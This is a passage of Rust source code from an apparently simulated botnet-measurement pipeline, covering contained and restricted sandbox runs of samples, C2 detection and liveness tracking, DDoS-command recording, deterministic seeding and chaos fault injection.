                    Err(q) => self.quarantine_sample(day, q, &mut eday),
                }
            }
            let sessions = run_restricted_batch(self.world, self.opts, day, &jobs, &tel);
            for session in sessions {
                eday.instructions += session.instructions;
                self.merge_ddos_evidence(day, session);
            }
        }
        drop(day_span);
        eday.wall_us = watch.elapsed_us();
        eday
    }

    /// Phase-B handling of a sample whose phase-A worker panicked: the
    /// casualty is recorded in D-Health and the study continues. This
    /// replaces the old abort-on-panic behaviour — one crashing sample
    /// must not cost a multi-day study.
    fn quarantine_sample(&mut self, day: u32, q: Quarantined, eday: &mut EpochDay) {
        self.tel.add("pipeline.samples_quarantined", 1);
        let sha = self.world.samples[q.sample_id].sha256.clone();
        // Recorded in sample-id order from the B1 merge loop, so the
        // replayed stream position is deterministic.
        eday.events.push(RecordedEvent {
            kind: "quarantine",
            fields: vec![
                ("sha256", RecVal::S(sha.clone())),
                ("day", RecVal::U(u64::from(day))),
                ("kind", RecVal::S("worker-panic".to_string())),
                ("detail", RecVal::S(q.detail.clone())),
            ],
        });
        for ctx in &q.fault_context {
            eday.events.push(RecordedEvent {
                kind: "chaos",
                fields: vec![
                    ("day", RecVal::U(u64::from(day))),
                    ("sha256", RecVal::S(sha.clone())),
                    ("detail", RecVal::S(ctx.clone())),
                ],
            });
        }
        *self
            .data
            .health
            .exit_counts
            .entry("worker-panic".to_string())
            .or_insert(0) += 1;
        self.data.health.rows.push(HealthRecord {
            sha256: sha,
            day,
            kind: HealthKind::WorkerPanic,
            detail: q.detail,
            fault_context: q.fault_context,
        });
    }

    /// Phase B1: merge one sample's contained-activation outcome into
    /// the epoch state in sample-id order.
    ///
    /// Every *order-sensitive* effect lives here — vendor registration
    /// and feed queries (against the epoch's own delta), DNS resolution
    /// and day-0 liveness probes on the epoch's day network, and all
    /// record pushes. The two effects that cross days — tracking-table
    /// inserts and `live_days`/`ip` updates — are **recorded** into the
    /// epoch day ([`Day0Live`]) for the reduce to replay, because only
    /// the reduce owns cross-day state.
    fn merge_world_effects(
        &mut self,
        net: &mut Network,
        day: u32,
        outcome: ContainedOutcome,
        eday: &mut EpochDay,
    ) -> Option<RestrictedJob> {
        let tel = self.tel.clone();
        let _merge_span = tel.span("pipeline.merge");
        let ContainedOutcome {
            sample_id,
            yara,
            avclass,
            activated,
            exploits,
            candidates,
            instructions,
            triage,
            exit,
            fault_context,
            emu_faults,
        } = outcome;
        self.data.triage.extend(triage);
        let sample = &self.world.samples[sample_id];
        // Chaos that touched this sample's contained run (binary
        // mutation, injected faults), recorded here — the B1 merge runs
        // in sample-id order — rather than from the racing phase-A
        // workers that observed it.
        for ctx in &fault_context {
            eday.events.push(RecordedEvent {
                kind: "chaos",
                fields: vec![
                    ("day", RecVal::U(u64::from(day))),
                    ("sha256", RecVal::S(sample.sha256.clone())),
                    ("detail", RecVal::S(ctx.clone())),
                ],
            });
        }
        // D-Health accounting: every contained run's exit reason is
        // tallied; sandbox faults (including malformed-ELF rejects) and
        // budget exhaustion get full degradation rows.
        let class = exit_class(&exit);
        *self
            .data
            .health
            .exit_counts
            .entry(class.to_string())
            .or_insert(0) += 1;
        if emu_faults.any() {
            tel.add("chaos.emu_faulted_samples", 1);
        }
        if let Some(kind) = degraded_kind(class, emu_faults.any()) {
            let kind_label = if kind == HealthKind::EmuFault {
                "emu-fault"
            } else {
                class
            };
            eday.events.push(RecordedEvent {
                kind: "quarantine",
                fields: vec![
                    ("sha256", RecVal::S(sample.sha256.clone())),
                    ("day", RecVal::U(u64::from(day))),
                    ("kind", RecVal::S(kind_label.to_string())),
                    ("detail", RecVal::S(exit.clone())),
                ],
            });
            self.data.health.rows.push(HealthRecord {
                sha256: sample.sha256.clone(),
                day,
                kind,
                detail: exit.clone(),
                fault_context: fault_context.clone(),
            });
        }
        // Pure per-(day, sample) AV-consensus draw: no shared RNG, so
        // every shard layout sees the same count.
        let av = self
            .engines
            .detections_for_malware(day, sample_id as u64)
            .max(sample.av_detections.min(60));

        // Exploits (D-Exploits).
        self.data.exploits.extend(exploits);

        let mut live_c2_ips: Vec<(String, Ipv4Addr, u16, Option<Family>)> = Vec::new();
        let mut c2_addrs = Vec::new();
        for cand in &candidates {
            c2_addrs.push(cand.addr.clone());
            // Resolve DNS candidates against the real resolver.
            let real_ip = if cand.dns {
                tel.add("pipeline.dns_resolutions", 1);
                resolve_on(net, &cand.addr)
            } else {
                Some(cand.ip)
            };
            // Epoch-local knowledge accrual: records are pure per
            // address, so if this is the address's globally-earliest
            // sighting the record (and the verdict below) is exactly
            // what the merged database derives; if an earlier epoch saw
            // it first, that epoch's C2Record wins the merge and this
            // one's feed fields are discarded.
            self.vendors.register(&cand.addr, cand.dns, day);
            let verdict = self.vendors.query(&cand.addr, day);
            let asn = real_ip
                .and_then(|ip| self.world.asdb.asn_of(ip))
                .map(|a| a.0);
            let family_label = cand
                .family_from_traffic
                .or_else(|| family_from_label(yara.as_deref()));
            let rec = self
                .data
                .c2s
                .entry(cand.addr.clone())
                .or_insert_with(|| C2Record {
                    addr: cand.addr.clone(),
                    ip: real_ip.unwrap_or(cand.ip),
                    port: cand.port,
                    dns: cand.dns,
                    asn,
                    first_seen_day: day,
                    samples: vec![],
                    live_days: vec![],
                    vt_day0: verdict.is_malicious(),
                    vt_day0_vendors: verdict.count(),
                    vt_late: false,
                    vt_late_vendors: 0,
                    protocol_verified: cand.family_from_traffic.is_some(),
                    families: vec![],
                });
            if !rec.samples.contains(&sample.sha256) {
                rec.samples.push(sample.sha256.clone());
            }
            if let Some(f) = family_label {
                if !rec.families.contains(&f) {
                    rec.families.push(f);
                }
            }
            rec.protocol_verified |= cand.family_from_traffic.is_some();

            // Day-0 liveness probe on the real network. The hit itself
            // is pure — the epoch's day net is a function of (world,
            // opts, day) — but its consequences (tracking entry,
            // live-day/ip bookkeeping) cross days, so they are recorded
            // for the reduce instead of applied here.
            if let Some(ip) = real_ip {
                let live = tcp_probe(net, ip, cand.port);
                if live {
                    eday.day0_live.push(Day0Live {
                        addr: cand.addr.clone(),
                        ip,
                        port: cand.port,
                    });
                    live_c2_ips.push((cand.addr.clone(), ip, cand.port, family_label));
                }
            }
        }
        tel.add("pipeline.c2_live_day0", live_c2_ips.len() as u64);

        self.data.samples.push(SampleRecord {
            sha256: sample.sha256.clone(),
            day,
            yara_family: yara,
            avclass_family: avclass,
            av_detections: av,
            activated,
            c2_addrs,
            instructions,
        });

        // Restricted DDoS-observation session (§2.5): eligible samples
        // become worker-pool jobs instead of running inline here.
        if activated && !live_c2_ips.is_empty() {
            Some(RestrictedJob {
                sample_id,
                live: live_c2_ips,
            })
        } else {
            None
        }
    }

    /// Phase B3: fold one restricted session's DDoS evidence into the
    /// epoch's datasets in sample-id order. The duplicate-command gate
    /// is day-local and a day belongs to exactly one epoch, so the gate
    /// sees exactly the records the sequential pipeline would have. The
    /// feed-knowledge flag is provisional (epoch-local knowledge); the
    /// reduce recomputes it against the merged database.
    fn merge_ddos_evidence(&mut self, day: u32, session: RestrictedOutcome) {
        let _merge_span = self.tel.span("pipeline.merge");
        let sample = &self.world.samples[session.sample_id];
        for (addr, ip, fam, cmds) in session.evidence {
            for c in cmds {
                if !c.verified {
                    continue; // manual verification gate (§2.5)
                }
                // One command = one record: the same command relayed
                // through a second bot of the same botnet is not a
                // new attack.
                let dup = self
                    .data
                    .ddos
                    .iter()
                    .any(|d| d.c2_addr == addr && d.day == day && d.command == c.command);
                if dup {
                    continue;
                }
                let known = self.vendors.query(&addr, day).is_malicious();
                self.data.ddos.push(DdosRecord {
                    sha256: sample.sha256.clone(),
                    family: fam.unwrap_or(Family::Mirai),
                    c2_addr: addr.clone(),
                    c2_ip: ip,
                    day,
                    command: c.command,
                    detection: c.detection,
                    measured_pps: c.measured_pps,
                    verified: c.verified,
                    target_protocol: c
                        .command
                        .target_protocol(fam.map(|f| f.tls_over_tcp()).unwrap_or(true)),
                    c2_known_to_feeds: known,
                });
                self.tel.add("pipeline.ddos_commands_recorded", 1);
            }
        }
    }
}

// ---------------------------------------------------------------------
// The epoch reduce: the only owner of cross-day state.
// ---------------------------------------------------------------------

/// Stitch epoch results into the study's datasets and vendor database,
/// and emit the canonical day-event stream.
///
/// Deterministic and **order-invariant**: epochs are first sorted by
/// their start day (they cover disjoint contiguous day-ranges), then
///
/// 1. vendor-knowledge deltas fold with earliest-discovery-day-wins
///    semantics ([`VendorDb::absorb`] — order-invariant because records
///    are pure per address),
/// 2. dataset slices concatenate in day order; C2 records merge with
///    earliest-sighting-wins for the per-address fields and day-ordered
///    concatenation for sample/family lists,
/// 3. a chronological fold walks every study day, owning the tracking
///    table: it re-resolves each tracked C2's liveness through a pure
///    per-`(day, address)` oracle ([`DOMAIN_LIVENESS_NET`]) — which is
///    what re-resolves transitions straddling an epoch edge — replays
///    the epochs' recorded day-0 hits, and emits the day's events
///    (day_start, chaos windows, phase markers, rollup, heartbeat) from
///    recorded per-day deltas, never from live counters.
///
/// The permutation proptest in `crates/core/tests/proptests.rs` feeds
/// this shuffled epoch vectors and asserts byte-identical dumps.
pub fn merge_epoch_results(
    world: &World,
    opts: &PipelineOpts,
    mut epochs: Vec<EpochResult>,
    tel: &Telemetry,
) -> (Datasets, VendorDb) {
    let _reduce_span = tel.span("pipeline.reduce");
    epochs.sort_by_key(|e| e.start_day);

    // 1. Vendor knowledge: fold every epoch's delta.
    let mut vendors = VendorDb::new(opts.seed);
    for e in &epochs {
        vendors.absorb(&e.vendors.delta());
    }

    // 2. Dataset slices, in day (= sorted epoch) order.
    let mut data = Datasets::default();
    for e in &mut epochs {
        data.samples.append(&mut e.data.samples);
        data.triage.append(&mut e.data.triage);
        data.exploits.append(&mut e.data.exploits);
        data.ddos.append(&mut e.data.ddos);
        data.health.rows.append(&mut e.data.health.rows);
        for (class, n) in std::mem::take(&mut e.data.health.exit_counts) {
            *data.health.exit_counts.entry(class).or_insert(0) += n;
        }
        for (addr, rec) in std::mem::take(&mut e.data.c2s) {
            match data.c2s.entry(addr) {
                Entry::Vacant(slot) => {
                    // Earliest epoch wins the address-level fields
                    // (first sighting, feed verdicts, endpoint data) —
                    // identical to what the sequential insert saw.
                    slot.insert(rec);
                }
                Entry::Occupied(mut slot) => {
                    let dst = slot.get_mut();
                    for sha in rec.samples {
                        if !dst.samples.contains(&sha) {
                            dst.samples.push(sha);
                        }
                    }
                    for fam in rec.families {
                        if !dst.families.contains(&fam) {
                            dst.families.push(fam);
                        }
                    }
                    dst.protocol_verified |= rec.protocol_verified;
                }
            }
        }
    }
    // Feed-knowledge flags recomputed against the *merged* database:
    // an epoch only knew its own registrations, so its provisional
    // flags can miss knowledge an earlier epoch accrued.
    for d in &mut data.ddos {
        d.c2_known_to_feeds = vendors.query(&d.c2_addr, d.day).is_malicious();
    }
    // Every merged C2 record was a new detection exactly once.
    tel.add("pipeline.c2_detected", data.c2s.len() as u64);

    // 3. Chronological fold: tracking, liveness, and the day stream.
    let eday_by_day: BTreeMap<u32, &EpochDay> = epochs
        .iter()
        .flat_map(|e| e.days.iter())
        .map(|d| (d.day, d))
        .collect();
    let bound = study_bound(world, opts);
    let mut tracking: BTreeMap<String, TrackState> = BTreeMap::new();
    let mut analyzed = 0u64;
    let mut instructions = 0u64;
    for day in 0..=bound {
        let eday = eday_by_day.get(&day).copied();
        if eday.is_none() && tracking.is_empty() {
            continue;
        }
        let fold_watch = tel.stopwatch();
        let batch_len = eday.map_or(0, |d| d.batch_len);
        tel.event(
            "day_start",
            None,
            &[
                ("day", EventField::U(u64::from(day))),
                ("new_samples", EventField::U(batch_len as u64)),
            ],
        );
        emit_chaos_downtime_events(&opts.faults, world, day, tel);
        // Daily liveness sweep over the tracked set — before the day's
        // phase replay, mirroring the sequential schedule. Each target
        // is re-resolved through the pure per-(day, address) oracle, so
        // a transition on an epoch-boundary day resolves exactly as it
        // would have in any other shard layout.
        if !tracking.is_empty() {
            let _sweep_span = tel.span("pipeline.liveness_sweep");
            tel.add("pipeline.liveness_probes", tracking.len() as u64);
            // BTreeMap iteration order: the probe order is canonical.
            let targets: Vec<(String, Ipv4Addr, u16)> = tracking
                .iter()
                .map(|(addr, t)| (addr.clone(), t.ip, t.port))
                .collect();
            let parent = tel.current_span();
            let alive: Vec<bool> = crate::par::fan_out(
                targets.len(),
                opts.parallelism,
                |i| {
                    let _span = tel.span_under("pipeline.liveness_probe", &parent);
                    liveness_oracle(world, opts, day, &targets[i], tel)
                },
                // Unreachable short of a harness bug (see `fan_out`).
                |_| false,
            );
            let mut drop_list = Vec::new();
            for ((addr, _, _), is_live) in targets.iter().zip(&alive) {
                let Some(t) = tracking.get_mut(addr) else {
                    continue;
                };
                t.days += 1;
                if *is_live {
                    t.misses = 0;
                    if let Some(rec) = data.c2s.get_mut(addr) {
                        rec.live_days.push(day);
                    }
                } else {
                    t.misses += 1;
                }
                if t.misses > opts.track_grace_days || t.days > opts.track_max_days {
                    drop_list.push(addr.clone());
                }
            }
            for addr in drop_list {
                tracking.remove(&addr);
            }
        }
        let phase = |name: &str, edge: &str| {
            tel.event(
                edge,
                None,
                &[
                    ("phase", EventField::S(name)),
                    ("day", EventField::U(u64::from(day))),
                ],
            );
        };
        phase("phase_a", "phase_start");
        phase("phase_a", "phase_end");
        phase("phase_b", "phase_start");
        if let Some(d) = eday {
            // Replay the epoch's recorded B1/B3 stream events, then its
            // day-0 liveness hits (in occurrence order): live-day and
            // endpoint updates on the merged records, and the tracking
            // inserts that start tomorrow's sweeps.
            for ev in &d.events {
                ev.emit(tel);
            }
            for hit in &d.day0_live {
                if let Some(rec) = data.c2s.get_mut(&hit.addr) {
                    if !rec.live_days.contains(&day) {
                        rec.live_days.push(day);
                    }
                    rec.ip = hit.ip;
                }
                tracking.entry(hit.addr.clone()).or_insert(TrackState {
                    ip: hit.ip,
                    port: hit.port,
                    misses: 0,
                    days: 0,
                });
            }
            analyzed += d.batch_len as u64;
            instructions += d.instructions;
        }
        phase("phase_b", "phase_end");
        let c2s_known = data
            .c2s
            .values()
            .filter(|r| r.first_seen_day <= day)
            .count() as u64;
        tel.rollup(
            "day",
            &[
                ("day", u64::from(day)),
                ("new_samples", batch_len as u64),
                ("tracked_c2s", tracking.len() as u64),
                ("c2s_known", c2s_known),
                (
                    "wall_us",
                    eday.map_or(0, |d| d.wall_us) + fold_watch.elapsed_us(),
                ),
            ],
        );
        // Progress heartbeat at the day boundary, reconstructed from
        // recorded per-day deltas — pure functions of (world, opts) —
        // so the stream is identical at every shard/thread count.
        tel.event(
            "heartbeat",
            None,
            &[
                ("day", EventField::U(u64::from(day))),
                ("samples_completed", EventField::U(analyzed)),
                ("instructions_retired", EventField::U(instructions)),
                ("tracked_c2s", EventField::U(tracking.len() as u64)),
            ],
        );
    }

    (data, vendors)
}

/// The pure per-`(day, address)` liveness oracle the reduce's daily
/// sweep consults: a single-target probe (with the usual bounded SYN
/// retries) against a detached day network derived from the address's
/// own [`DOMAIN_LIVENESS_NET`] sub-seed, with the day's fault plan
/// applied — chaos downtime windows affect the oracle exactly as they
/// affect every other view of the world.
fn liveness_oracle(
    world: &World,
    opts: &PipelineOpts,
    day: u32,
    target: &(String, Ipv4Addr, u16),
    tel: &Telemetry,
) -> bool {
    let (mut net, _logs) = world.network_for_day_detached(
        day,
        sub_seed(
            opts.seed ^ DOMAIN_LIVENESS_NET,
            day,
            fnv1a(target.0.as_bytes()),
        ),
    );
    net.set_telemetry(tel);
    apply_world_chaos(&opts.faults, world, &mut net, day, tel);
    let live = liveness_probe_rounds(
        &mut net,
        std::slice::from_ref(target),
        opts.syn_retries,
        tel,
    );
    !live.is_empty()
}

/// Emit the day's scheduled C2-downtime chaos events. The reduce calls
/// this once per active day; the *application* of those windows happens
/// on every network that models the day (epoch day nets, restricted
/// nets, oracle nets) via [`apply_world_chaos`], which never emits.
fn emit_chaos_downtime_events(plan: &FaultPlan, world: &World, day: u32, tel: &Telemetry) {
    if plan.is_none() {
        return;
    }
    for c2 in &world.c2s {
        if !c2.alive_on(day) {
            continue;
        }
        if let Some((start, dur)) = plan.downtime_window(day, c2.host_ip) {
            let ip = c2.host_ip.to_string();
            tel.event(
                "chaos",
                None,
                &[
                    ("day", EventField::U(u64::from(day))),
                    ("kind", EventField::S("c2_downtime")),
                    ("ip", EventField::S(&ip)),
                    ("start_secs", EventField::U(start)),
                    ("duration_secs", EventField::U(dur)),
                ],
            );
        }
    }
}

/// Apply the day's share of the fault plan to a world-derived network:
/// link faults, DNS failure injection, and scheduled C2 downtime
/// windows. A no-op (that draws no randomness) for the empty plan.
///
/// A free function because every kind of day network needs it — the
/// epoch's day network, each restricted session's detached network
/// ([`run_restricted_batch`]) and each liveness-oracle network — and
/// the same day must see the same faults on all of them, or a
/// restricted session would observe a C2 the liveness sweep saw go
/// down. Never emits events: the stream's chaos announcements come from
/// the reduce ([`emit_chaos_downtime_events`]), exactly once per day.
fn apply_world_chaos(
    plan: &FaultPlan,
    world: &World,
    net: &mut Network,
    day: u32,
    tel: &Telemetry,
) {
    if plan.is_none() {
        return;
    }
    net.faults = plan.world_link(day);
    net.dns_faults = plan.dns_faults(day);
    for c2 in &world.c2s {
        if !c2.alive_on(day) {
            continue;
        }
        if let Some((start, dur)) = plan.downtime_window(day, c2.host_ip) {
            let down_at = SimTime::from_day(day, start);
            net.schedule_host_state(c2.host_ip, down_at, false);
            net.schedule_host_state(c2.host_ip, down_at + SimDuration::from_secs(dur), true);
            tel.add("chaos.c2_downtime_windows", 1);
        }
    }
}

/// One sample's pending restricted DDoS-observation session: emitted by
/// [`EpochRun::merge_world_effects`] (phase B1) and consumed by the
/// phase-B worker pool ([`run_restricted_batch`]).
#[derive(Debug, Clone)]
struct RestrictedJob {
    /// The sample's id in `world.samples`.
    sample_id: usize,
    /// The sample's C2s that answered the day-0 liveness probe:
    /// `(addr, ip, port, family)` in candidate order.
    live: Vec<(String, Ipv4Addr, u16, Option<Family>)>,
}

/// Everything one restricted session produced, as plain data the epoch
/// merges in sample-id order (phase B3).
struct RestrictedOutcome {
    /// The sample's id in `world.samples`.
    sample_id: usize,
    /// Instructions the restricted run retired (feeds the reduce's
    /// heartbeat reconstruction).
    instructions: u64,
    /// Per live C2: `(addr, ip, family, extracted commands)` in the
    /// job's candidate order.
    evidence: Vec<(
        String,
        Ipv4Addr,
        Option<Family>,
        Vec<ddos::ExtractedCommand>,
    )>,
}

/// Phase B2: run every pending restricted session, returning outcomes in
/// job (= sample-id) order.
///
/// Each session runs against its **own detached network** built by
/// [`World::network_for_day_detached`] from a [`SeedStream::RestrictedNet`]
/// sub-seed: same topology and day as the epoch's day network, but
/// private RNG state and private C2 responsiveness chains, so one
/// session's traffic can never perturb another's — the property that
/// makes the fan-out byte-deterministic (DESIGN.md §8). The day's fault
/// plan is re-applied to every detached network so chaos runs see
/// identical outage windows on both sides of the split.
fn run_restricted_batch(
    world: &World,
    opts: &PipelineOpts,
    day: u32,
    jobs: &[RestrictedJob],
    tel: &Telemetry,
) -> Vec<RestrictedOutcome> {
    if jobs.is_empty() {
        return Vec::new();
    }
    // Workers re-attach their spans under the epoch's phase-B span.
    let parent = tel.current_span();
    crate::par::fan_out(
        jobs.len(),
        opts.parallelism,
        |i| {
            let job = &jobs[i];
            let session = {
                let _span = tel.span_under("pipeline.restricted_session", &parent);
                tel.add("pipeline.restricted_sessions", 1);
                let (mut net, _logs) = world.network_for_day_detached(
                    day,
                    sample_seed(opts.seed, day, job.sample_id, SeedStream::RestrictedNet),
                );
                net.set_telemetry(tel);
                apply_world_chaos(&opts.faults, world, &mut net, day, tel);
                let mut allowed: Vec<Ipv4Addr> = job.live.iter().map(|(_, ip, _, _)| *ip).collect();
                allowed.push(malnet_botgen::world::WORLD_RESOLVER);
                let mut sb = Sandbox::new(
                    net,
                    SandboxConfig {
                        bot_ip: BOT_IP,
                        mode: AnalysisMode::Restricted { allowed },
                        handshaker_threshold: None,
                        instruction_budget: 2_000_000_000,
                        seed: sample_seed(opts.seed, day, job.sample_id, SeedStream::Restricted),
                        block_engine: opts.block_engine,
                        // Emulator faults target the contained run only;
                        // restricted sessions keep the honest fd cap.
                        fd_cap: malnet_sandbox::process::DEFAULT_FD_CAP,
                        emu_faults: malnet_sandbox::EmuFaults::none(),
                    },
                )
                .with_telemetry(tel);
                sb.execute(
                    &world.samples[job.sample_id].elf,
                    SimDuration::from_secs(opts.restricted_secs),
                )
            };
            let _eavesdrop_span = tel.span_under("pipeline.ddos_eavesdrop", &parent);
            let packets = session.packets();
            let evidence = job
                .live
                .iter()
                .map(|(addr, ip, _port, fam)| {
                    let cmds = ddos::extract(&packets, BOT_IP, *ip, *fam, opts.pps_threshold);
                    tel.add("pipeline.ddos_commands_seen", cmds.len() as u64);
                    (addr.clone(), *ip, *fam, cmds)
                })
                .collect();
            RestrictedOutcome {
                sample_id: job.sample_id,
                instructions: session.instructions,
                evidence,
            }
        },
        // Unreachable short of a harness bug (see `fan_out`): degrade to
        // "session produced nothing" rather than aborting the study.
        |i| RestrictedOutcome {
            sample_id: jobs[i].sample_id,
            instructions: 0,
            evidence: Vec::new(),
        },
    )
}

/// Sub-seed domain for the contained run's isolated [`Network`]. Zero
/// by historical accident (the first stream predates the domain
/// registry) and pinned forever: changing it would shift every
/// published dataset byte-for-byte.
const DOMAIN_CONTAINED_NET: u64 = 0;
/// Sub-seed domain for the contained [`Sandbox`] (emulator jitter,
/// handshaker).
const DOMAIN_CONTAINED_SANDBOX: u64 = 0x5eed_0000_0000_0001;
/// Sub-seed domain for the restricted DDoS-observation [`Sandbox`].
const DOMAIN_RESTRICTED: u64 = 0x5eed_0000_0000_0002;
/// Sub-seed domain for the restricted session's detached world-derived
/// [`Network`] ([`World::network_for_day_detached`]): same topology as
/// the epoch's day net, private RNG + responsiveness chains.
const DOMAIN_RESTRICTED_NET: u64 = 0x5eed_0000_0000_0003;
/// Sub-seed domain for an epoch's per-day world [`Network`] — the net
/// that hosts B1's DNS resolutions and day-0 liveness probes. Keyed by
/// day only, so every shard layout derives the identical network.
const DOMAIN_WORLD_NET: u64 = 0x5eed_0000_0000_0006;
/// Sub-seed domain for the reduce's per-`(day, address)` liveness-oracle
/// [`Network`]s (the address hashes in through [`fnv1a`]).
const DOMAIN_LIVENESS_NET: u64 = 0x5eed_0000_0000_0007;

/// The per-sample RNG streams derived from the master seed. Each stream
/// gets its own [`sub_seed`] domain so the contained network, contained
/// sandbox, and restricted sandbox never share a generator. The domain
/// constants live in the workspace-wide `0x5eed_…` family whose
/// uniqueness `malnet-lint` checks across crates.
#[derive(Debug, Clone, Copy)]
enum SeedStream {
    /// [`DOMAIN_CONTAINED_NET`].
    ContainedNet,
    /// [`DOMAIN_CONTAINED_SANDBOX`].
    ContainedSandbox,
    /// [`DOMAIN_RESTRICTED`].
    Restricted,
    /// [`DOMAIN_RESTRICTED_NET`].
    RestrictedNet,
}

/// Derive the seed for one per-sample RNG stream.
///
/// Built on [`sub_seed`] (splitmix64 chaining) so seeds are well mixed
/// across `(day, sample, stream)` even for adjacent master seeds — unlike
/// the old `master ^ id << k` scheme, which collided across days.
fn sample_seed(master: u64, day: u32, sample_id: usize, stream: SeedStream) -> u64 {
    let domain = match stream {
        SeedStream::ContainedNet => DOMAIN_CONTAINED_NET,
        SeedStream::ContainedSandbox => DOMAIN_CONTAINED_SANDBOX,
        SeedStream::Restricted => DOMAIN_RESTRICTED,
        SeedStream::RestrictedNet => DOMAIN_RESTRICTED_NET,
    };
    sub_seed(master ^ domain, day, sample_id as u64)
}

/// Every sub-seed stream a study over `(world, opts)` can draw, each
/// labelled by its coordinates: the four per-`(day, sample)` streams,
/// the per-sample AV-consensus stream, the per-day world networks, the
/// per-`(day, address)` liveness-oracle networks and the per-address
/// vendor-feed streams.
///
/// Input to the `sub_seed_domains_never_collide` proptest: two entries
/// with different labels must never share a seed — the domain-
/// separation property the epoch refactor leans on (a collision would
/// let one stream's draws echo into another, silently correlating
/// "independent" runs).
pub fn seed_inventory(world: &World, opts: &PipelineOpts) -> Vec<(String, u64)> {
    let mut out = Vec::new();
    let plans = day_plans(world, opts);
    let bound = study_bound(world, opts);
    for plan in &plans {
        let day = plan.day;
        out.push((
            format!("world_net/{day}"),
            sub_seed(opts.seed ^ DOMAIN_WORLD_NET, day, 0),
        ));
        for &id in &plan.batch {
            for (name, stream) in [
                ("contained_net", SeedStream::ContainedNet),
                ("contained_sandbox", SeedStream::ContainedSandbox),
                ("restricted", SeedStream::Restricted),
                ("restricted_net", SeedStream::RestrictedNet),
            ] {
                out.push((
                    format!("{name}/{day}/{id}"),
                    sample_seed(opts.seed, day, id, stream),
                ));
            }
            out.push((
                format!("av_engines/{day}/{id}"),
                malnet_intel::engines::engine_seed(opts.seed, day, id as u64),
            ));
        }
    }
    // Every address form a study can register or track: the C2s'
    // carried endpoints (IP or domain) and their host addresses.
    let mut addrs: Vec<String> = Vec::new();
    for c2 in &world.c2s {
        addrs.push(c2.endpoint.to_string());
        addrs.push(c2.host_ip.to_string());
    }
    addrs.sort_unstable();
    addrs.dedup();
    for addr in &addrs {
        out.push((
            format!("vendor_addr/{addr}"),
            malnet_intel::feeds::vendor_addr_seed(opts.seed, addr),
        ));
        for day in 0..=bound {
            out.push((
                format!("liveness_net/{day}/{addr}"),
                sub_seed(opts.seed ^ DOMAIN_LIVENESS_NET, day, fnv1a(addr.as_bytes())),
            ));
        }
    }
    out
}

/// Everything the contained-activation stage (phase A) produces for one
/// sample. Plain data: safe to compute on a worker thread and ship back
/// to the merge stage.
#[derive(Debug, Clone, PartialEq)]
pub struct ContainedOutcome {
    /// The analyzed sample's id in `world.samples`.
    pub sample_id: usize,
    /// YARA family label of the binary.
    pub yara: Option<String>,
    /// AVClass2 family label of the binary.
    pub avclass: Option<String>,
    /// Did the sample activate (run and speak) in the sandbox?
    pub activated: bool,
    /// Classified exploit payloads captured by the handshaker.
    pub exploits: Vec<ExploitRecord>,
    /// C2 candidates extracted from the capture (empty for P2P samples).
    pub candidates: Vec<crate::c2detect::C2Candidate>,
    /// Instructions the emulator retired.
    pub instructions: u64,
    /// Phase-0 static triage result (None when triage is off).
    pub triage: Option<TriageRecord>,
    /// Exit label of the contained run (`"exited(0)"`, `"fault: …"`,
    /// `"deadline"`, `"budget"`) — input to D-Health accounting.
    pub exit: String,
    /// Injected-fault context active during this sample's contained run
    /// (empty outside chaos runs).
    pub fault_context: Vec<String>,
    /// Syscall-boundary faults actually injected into the contained run
    /// (all-zero outside chaos runs) — when the run degraded, this is
    /// what reclassifies it as [`HealthKind::EmuFault`].
    pub emu_faults: EmuFaultTally,
}

/// A phase-A casualty: the worker analyzing this sample panicked. The
/// pipeline quarantines it into D-Health instead of aborting the study.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Quarantined {
    /// The sample's id in `world.samples`.
    pub sample_id: usize,
    /// Panic message (best effort).
    pub detail: String,
    /// Injected-fault context, when the panic was chaos-forced.
    pub fault_context: Vec<String>,
}

// Compile-time guarantee: phase-A outcomes can ship across threads.
const _: () = {
    const fn assert_send<T: Send>() {}
    assert_send::<ContainedOutcome>();
};

/// Phase A of per-sample analysis: the contained sandbox run and every
/// derivation that depends only on it.
///
/// This is a pure function of `(world, opts, day, sample_id)`: the run
/// executes against a fresh, isolated [`Network`] seeded by
/// [`sub_seed`], touches no pipeline state, and so can execute on any
/// thread in any order. The pipeline fans these out when
/// [`PipelineOpts::parallelism`] > 1.
pub fn contained_activation(
    world: &World,
    opts: &PipelineOpts,
    day: u32,
    sample_id: usize,
    tel: &Telemetry,
) -> ContainedOutcome {
    let plan = &opts.faults;
    if plan.forced_panic(day, sample_id) {
        tel.add("chaos.forced_panics", 1);
        // Deliberate: the chaos layer's injected crash. lint: panic-ok
        panic!("chaos: forced phase-A worker panic (day {day}, sample {sample_id})");
    }
    let sample = &world.samples[sample_id];
    let mut fault_context: Vec<String> = Vec::new();
    // Binary mutation (truncation / bit flip) models a corrupted feed
    // download; the analysis sees the mutated bytes end to end.
    let mutated = plan.mutate_binary(day, sample_id, &sample.elf);
    let elf: &[u8] = match &mutated {
        Some((bytes, desc)) => {
            tel.add("chaos.binaries_mutated", 1);
            fault_context.push(desc.clone());
            bytes
        }
        None => &sample.elf,
    };
    let yara = yara_label(elf).map(str::to_string);
    let avclass = avclass2_label(elf).map(str::to_string);

    // --- phase 0: static triage (no instruction executed) ---
    let triage = if opts.static_triage {
        let _triage_span = tel.span("pipeline.static_triage");
        Some(static_triage(elf, day, &sample.sha256, tel))
    } else {
        None
    };

    // --- contained activation: C2 + exploit extraction ---
    let mut contained_net = Network::new(
        SimTime::from_day(day, 0),
        sample_seed(opts.seed, day, sample_id, SeedStream::ContainedNet),
    );
    contained_net.set_telemetry(tel);
    if !plan.is_none() {
        let link = plan.contained_link(day, sample_id);
        if link.loss > 0.0 || link.corrupt > 0.0 {
            fault_context.push(format!(
                "contained link loss={:.4} corrupt={:.4}",
                link.loss, link.corrupt
            ));
            contained_net.faults = link;
        }
        // The sandbox's fake resolver is a DnsService like any other:
        // the day's DNS fault policy applies to it too. Decisions draw
        // from the contained net's per-sample RNG, so they are a pure
        // function of (fault_seed, day, sample_id).
        let dns = plan.dns_faults(day);
        if dns.any() {
            fault_context.push(format!(
                "dns drop={:.4} servfail={:.4} nxdomain={:.4}",
                dns.drop_rate, dns.servfail_rate, dns.nxdomain_rate
            ));
            contained_net.dns_faults = dns;
        }
    }
    // Emulator fault sub-plan: syscall-boundary chaos injected inside
    // the guest's kernel view (short I/O, EINTR, ENOMEM, fd-cap
    // squeeze). Inert — and RNG-free — unless the plan enables it.
    let emu = plan.emu_faults(day, sample_id);
    if !emu.is_none() {
        fault_context.push(format!(
            "emu faults armed: short={:.4} eintr={:.4} enomem={:.4} fd_cap={}",
